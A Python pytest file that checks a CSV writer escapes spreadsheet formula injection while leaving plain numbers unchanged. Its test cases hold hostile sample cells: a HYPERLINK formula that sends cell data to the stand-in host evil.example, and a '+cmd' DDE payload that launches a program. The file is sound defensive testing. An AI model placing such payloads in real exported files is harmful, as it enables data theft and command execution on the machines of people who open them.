"""What is written as CSV may be opened in a spreadsheet, which must run nothing of it."""

import csv
from pathlib import Path

import pytest

from model.tables.writing import write_rows


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ('=HYPERLINK("https://evil.example/?"&A1)', '\'=HYPERLINK("https://evil.example/?"&A1)'),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("\t=1+1", "'\t=1+1"),
        ("-12.5", "-12.5"),
        ("+44", "+44"),
        ("c1=2", "c1=2"),
        (-0.5, "-0.5"),
        (None, ""),
    ],
)
def test_a_formula_in_a_csv_is_disarmed_and_a_number_is_left_alone(tmp_path: Path, cell: object, written: str) -> None:
    write_rows([{"id": cell, "toxicity": 0.5}], ["id", "toxicity"], str(tmp_path / "scores.csv"))

    with (tmp_path / "scores.csv").open(newline="") as file:
        assert list(csv.reader(file)) == [["id", "toxicity"], [written, "0.5"]]
